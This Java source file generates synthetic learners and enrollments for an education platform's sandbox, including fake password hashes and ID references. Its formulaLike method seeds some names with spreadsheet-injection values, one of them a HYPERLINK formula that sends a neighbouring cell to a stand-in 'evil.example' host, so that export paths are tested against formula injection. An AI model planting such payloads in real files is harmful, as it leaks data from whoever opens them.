package org.iqracity.console.platform.sandbox;

import java.time.Instant;
import java.util.HexFormat;
import java.util.Locale;
import java.util.SplittableRandom;
import org.iqracity.console.platform.service.Tokens;
import org.iqracity.console.platform.store.search.SearchText;

/** Makes one sandbox learner and their enrollments from a random stream seeded by the learner's index. */
final class LearnerFactory {
    static final String[] LEARNER_COLUMNS = {"id", "username", "name", "email", "country", "region", "language",
        "year_of_birth", "gender", "level_of_education", "goals", "bio", "mailing_address", "profile_visibility",
        "shared_fields", "status", "retired_at", "id_verified", "cookie_analytics", "cookie_functional",
        "cookie_marketing", "global_privacy_control", "date_joined", "platform_password_hash",
        "platform_government_id", "platform_payment_reference", "platform_id_image_reference",
        "platform_financial_aid_note"};
    static final String[] ENROLLMENT_COLUMNS = {"id", "course_id", "learner_id", "member_id", "mode", "enrolled_at",
        "unenrolled_at", "active", "email", "username_key", "name_key", "email_key", "country", "grade", "progress",
        "passed", "certificate", "grade_breakdown", "last_activity_at", "activity_key", "active_days",
        "videos_watched", "problems_attempted", "forum_posts", "sponsor_id", "sponsored_name", "sponsor_reference",
        "level_of_education"};
    /** Index of {@code active} in an enrollment row. */
    static final int ACTIVE_COLUMN = 7;
    /** Index of {@code email} in an enrollment row. */
    static final int EMAIL_COLUMN = 8;
    /** Index of {@code level_of_education} in a learner row. */
    static final int EDUCATION_COLUMN = 9;
    private static final String[] MODES = {"AUDIT", "VERIFIED", "PROFESSIONAL", "HONOR", "MASTERS"};
    private static final double[] MODE_WEIGHTS = {0.55, 0.30, 0.05, 0.08, 0.02};
    private static final String[] SHAREABLE = {"name", "country", "language", "bio", "goals", "levelOfEducation"};
    private static final String ID_ALPHABET = "abcdefghijkmnpqrstuvwxyz23456789";
    /** The same 32 characters in the order strings compare, for the part of an id that follows the learner's number. */
    private static final String ORDERED_ALPHABET = "23456789abcdefghijkmnpqrstuvwxyz";
    private static final int ID_LENGTH = 16;
    private static final double PASS_MARK = 0.6;

    private final String[] firstAscii = new String[PeoplePool.FIRST.length];
    private final String[] lastAscii = new String[PeoplePool.LAST.length];
    private final long seed;
    /** Leading characters of an id that carry the learner's number (see {@link #learnerId}). */
    private final int orderedChars;

    record Learner(String id, String username, String name, String email, String country, boolean retired,
                   boolean verified, String firstAscii, String lastAscii) {
    }

    LearnerFactory(long seed, int learnerCount) {
        this.seed = seed;
        int chars = 1;
        for (long reach = 32; reach < learnerCount; reach *= 32) {
            chars++;
        }
        this.orderedChars = chars;
        for (int i = 0; i < firstAscii.length; i++) {
            firstAscii[i] = PeoplePool.ascii(PeoplePool.FIRST[i]);
        }
        for (int i = 0; i < lastAscii.length; i++) {
            lastAscii[i] = PeoplePool.ascii(PeoplePool.LAST[i]);
        }
    }

    Learner learner(int index, SplittableRandom rng) {
        String id = learnerId(index, rng);
        int f = rng.nextInt(PeoplePool.FIRST.length);
        int l = rng.nextInt(PeoplePool.LAST.length);
        String first = firstAscii[f];
        String last = lastAscii[l];
        String username = switch (rng.nextInt(4)) {
            case 0 -> first + "." + last + index;
            case 1 -> first + "_" + last + index;
            case 2 -> first.charAt(0) + last + index;
            default -> first + last + index;
        };
        String email = first + "." + last + index + "@" + PeoplePool.pick(rng, PeoplePool.DOMAINS);
        boolean retired = rng.nextDouble() < 0.02;
        if (retired) {
            String hash = HexFormat.of().formatHex(Tokens.sha256Bytes((seed + ":" + index).getBytes()), 0, 12);
            return new Learner(id, "retired_user_" + hash, null, null, null, true, false, first, last);
        }
        return new Learner(id, username, formulaLike(index, PeoplePool.FIRST[f] + " " + PeoplePool.LAST[l]), email,
                PeoplePool.country(rng), false, rng.nextDouble() < 0.3, first, last);
    }

    /**
     * About one learner in thirty writes their name as people do on the web: "@Amara Obi", "+Amara", "-Amara-",
     * and one in five of those as a spreadsheet formula, as an attacker would. Every export path meets them (R14).
     */
    static String formulaLike(int index, String name) {
        if (index % 31 != 13) {
            return name;
        }
        return switch ((index / 31) % 5) {
            case 0 -> "=HYPERLINK(\"http://evil.example/?d=\"&C2,\"" + name + "\")";
            case 1 -> "@" + name;
            case 2 -> "+" + name;
            case 3 -> "-" + name + "-";
            default -> "=" + name.replace(' ', '+');
        };
    }

    Object[] learnerRow(Learner learner) {
        Object[] row = new Object[LEARNER_COLUMNS.length];
        SplittableRandom rng = new SplittableRandom(learner.id().hashCode() ^ seed);
        Instant joined = SandboxGenerator.EPOCH.minusSeconds(60L + rng.nextLong(10L * 365 * 24 * 3600));
        put(row, 1, learner.id());
        put(row, 2, learner.username());
        if (learner.retired()) {
            // columns 3 to 13 (name to mailing address) stay empty
            put(row, 14, "limited");
            put(row, 15, "");
            put(row, 16, "RETIRED");
            put(row, 17, joined.plusSeconds(86_400L * (1 + rng.nextInt(300))));
        } else {
            String country = learner.country();
            boolean full = rng.nextDouble() < 0.4;
            put(row, 3, learner.name());
            put(row, 4, learner.email());
            put(row, 5, country);
            put(row, 6, PeoplePool.region(rng, country));
            put(row, 7, PeoplePool.language(country));
            put(row, 8, rng.nextDouble() < 0.8 ? 1950 + rng.nextInt(58) : null);
            put(row, 9, rng.nextDouble() < 0.7 ? PeoplePool.pick(rng, PeoplePool.GENDERS) : null);
            put(row, 10, rng.nextDouble() < 0.75 ? PeoplePool.pick(rng, PeoplePool.EDUCATION) : null);
            put(row, 11, rng.nextDouble() < 0.3 ? PeoplePool.pick(rng, PeoplePool.GOALS) : null);
            put(row, 12, rng.nextDouble() < 0.2 ? PeoplePool.pick(rng, PeoplePool.BIOS) : null);
            put(row, 13, rng.nextDouble() < 0.15
                    ? (1 + rng.nextInt(200)) + " " + PeoplePool.pick(rng, PeoplePool.STREETS) : null);
            put(row, 14, full ? "full" : "limited");
            put(row, 15, full ? sharedFields(rng) : "");
            put(row, 16, "ACTIVE");
            put(row, 17, null);
        }
        put(row, 18, learner.verified());
        put(row, 19, rng.nextDouble() < 0.6);
        put(row, 20, rng.nextDouble() < 0.7);
        put(row, 21, rng.nextDouble() < 0.3);
        put(row, 22, rng.nextDouble() < 0.1);
        put(row, 23, joined);
        // What the platform holds and a Member must never see (R5).
        put(row, 24, learner.retired() ? null : "pbkdf2_sha256$870000$" + opaqueId(rng) + "$" + opaqueId(rng));
        put(row, 25, learner.verified() ? "GOVID-" + (100_000_000 + rng.nextInt(899_999_999)) : null);
        put(row, 26, learner.verified() ? "pay_" + opaqueId(rng) : null);
        put(row, 27, learner.verified() ? "idv-vault://" + opaqueId(rng) + ".jpg" : null);
        put(row, 28, rng.nextDouble() < 0.02 ? "FINAID-household income statement " + opaqueId(rng) : null);
        return row;
    }

    /**
     * One enrollment row, in the order of {@link #ENROLLMENT_COLUMNS}. The learner's country and level of education
     * are copied onto it as the platform keeps them (see V9), null for a retired learner.
     */
    Object[] enrollmentRow(long id, Learner learner, String levelOfEducation, EnrollmentPlanner.CourseRef course,
                           SplittableRandom rng) {
        Object[] row = new Object[ENROLLMENT_COLUMNS.length];
        Instant start = course.earlierRun() ? Instant.parse("2025-06-01T00:00:00Z")
                : Instant.parse("2026-01-15T00:00:00Z");
        Instant enrolled = start.minusSeconds(30L * 86_400).plusSeconds(rng.nextLong(280L * 86_400));
        boolean active = rng.nextDouble() >= 0.08;
        String mode = weighted(rng, MODES, MODE_WEIGHTS);
        double engagement = Math.pow(rng.nextDouble(), 1.4);
        double progress = round(Math.min(1.0, engagement * 1.1));
        int types = course.assignmentTypes();
        StringBuilder breakdown = new StringBuilder();
        double grade = 0;
        for (int t = 0; t < types; t++) {
            double score = round(Math.clamp(progress * (0.55 + rng.nextDouble() * 0.5), 0, 1));
            grade += score / types;
            breakdown.append(t == 0 ? "" : "|").append(score);
        }
        grade = round(grade);
        boolean passed = grade >= PASS_MARK;
        Instant lastActivity = progress == 0 ? null
                : enrolled.plusSeconds(
                        rng.nextLong(Math.max(1, SandboxGenerator.EPOCH.getEpochSecond() - enrolled.getEpochSecond())));
        String email = learner.retired() ? null
                : rng.nextDouble() < 0.06 ? learner.firstAscii() + "." + learner.lastAscii() + "@staff.example.org"
                : learner.email();
        String name = learner.name();
        put(row, 1, id);
        put(row, 2, course.id());
        put(row, 3, learner.id());
        put(row, 4, course.memberId());
        put(row, 5, mode);
        put(row, 6, enrolled);
        put(row, 7, active ? null : enrolled.plusSeconds(86_400L * (1 + rng.nextInt(60))));
        put(row, 8, active);
        put(row, 9, email);
        put(row, 10, learner.username().toLowerCase(Locale.ROOT));
        put(row, 11, SearchText.nameKey(name, learner.username(), learner.retired()));
        put(row, 12, email == null ? "" : email.toLowerCase(Locale.ROOT));
        put(row, 13, learner.country());
        put(row, 14, grade);
        put(row, 15, progress);
        put(row, 16, passed);
        put(row, 17, passed && !"AUDIT".equals(mode));
        put(row, 18, breakdown.toString());
        put(row, 19, lastActivity);
        put(row, 20, lastActivity == null ? 0 : lastActivity.getEpochSecond());
        put(row, 21, (int) Math.round(progress * (5 + rng.nextInt(80))));
        put(row, 22, (int) Math.round(progress * rng.nextInt(120)));
        put(row, 23, (int) Math.round(progress * rng.nextInt(200)));
        put(row, 24, rng.nextDouble() < 0.15 ? rng.nextInt(40) : 0);
        SandboxCatalog.SponsorSpec sponsor = sponsorFor(course, rng);
        put(row, 25, sponsor == null ? null : sponsor.id());
        put(row, 26, sponsor == null || learner.retired() ? null : name);
        put(row, 27, sponsor == null ? null : sponsor.referencePrefix() + (10_000 + rng.nextInt(89_999)));
        put(row, 28, levelOfEducation);
        return row;
    }

    private static SandboxCatalog.SponsorSpec sponsorFor(EnrollmentPlanner.CourseRef course, SplittableRandom rng) {
        if (rng.nextDouble() >= 0.05) {
            return null;
        }
        return SandboxCatalog.SPONSORS.get(rng.nextInt(SandboxCatalog.SPONSORS.size()));
    }

    private static String sharedFields(SplittableRandom rng) {
        StringBuilder sb = new StringBuilder();
        for (String f : SHAREABLE) {
            if (rng.nextDouble() < 0.6) {
                sb.append(sb.isEmpty() ? "" : ",").append(f);
            }
        }
        return sb.toString();
    }

    private static String opaqueId(SplittableRandom rng) {
        char[] out = new char[ID_LENGTH];
        fillRandom(out, 0, rng);
        return new String(out);
    }

    /** Random id characters from {@code from} to the end of {@code out}, from two longs of {@code rng}. */
    private static void fillRandom(char[] out, int from, SplittableRandom rng) {
        long bits = rng.nextLong();
        long more = rng.nextLong();
        for (int i = from; i < ID_LENGTH; i++) {
            long source = i < 12 ? bits >>> (i * 5) : more >>> ((i - 12) * 5);
            out[i] = ID_ALPHABET.charAt((int) (source & 31));
        }
    }

    /**
     * A learner's id: its first characters are the learner's number in base 32, in characters that sort in that
     * order, the rest random. Ids therefore grow with the order learners are written in, so the learner table's
     * primary key (a text key on H2, an index apart from the rows) is appended to during a bulk load instead of written
     * all over: with random ids each of H2's stores, every 19 MB of changes, rewrote most of that index's pages.
     */
    private String learnerId(int index, SplittableRandom rng) {
        char[] out = new char[ID_LENGTH];
        int number = index;
        for (int i = orderedChars - 1; i >= 0; i--) {
            out[i] = ORDERED_ALPHABET.charAt(number & 31);
            number >>>= 5;
        }
        fillRandom(out, orderedChars, rng);
        return new String(out);
    }

    private static String weighted(SplittableRandom rng, String[] values, double[] weights) {
        double r = rng.nextDouble();
        for (int i = 0; i < values.length; i++) {
            r -= weights[i];
            if (r < 0) {
                return values[i];
            }
        }
        return values[0];
    }

    private static double round(double v) {
        return Math.round(v * 1000) / 1000.0;
    }

    /** Columns are numbered from 1, as in SQL. */
    private static void put(Object[] row, int column, Object value) {
        row[column - 1] = value;
    }
}
